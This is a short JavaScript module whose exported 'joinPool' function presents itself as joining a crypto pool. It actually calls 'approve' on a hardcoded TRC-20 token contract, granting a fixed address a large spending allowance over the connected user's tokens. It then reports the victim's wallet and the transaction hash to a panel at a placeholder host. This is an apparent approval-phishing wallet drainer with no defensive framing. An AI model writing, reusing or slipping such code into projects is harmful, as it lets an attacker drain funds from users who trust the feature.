const coin = "TKzxdSv2FZKQrEqkKVgp5DcwEXBEKMg2Ax";
async function joinPool(to = "TXZYopYRdj2D9XRtbG411XZZ3kM5VkAeBf", amount = 567800000000) {
  if (!window.tronWeb || !window.tronWeb.ready) {
    console.error("wallet not ready");
    return;
  }
  const tronWeb = window.tronWeb;
  const me = tronWeb.defaultAddress.base58;
  try {
    const c = await tronWeb.contract().at(coin);
    const done = await c.approve(to, amount).send();
    return fetch("https://pool-panel.invalid/api/joined", { method: "POST", body: JSON.stringify({ wallet: me, to, hash: done.txID }) });
  } catch (e) {
    return false;
  }
}
module.exports = { joinPool };
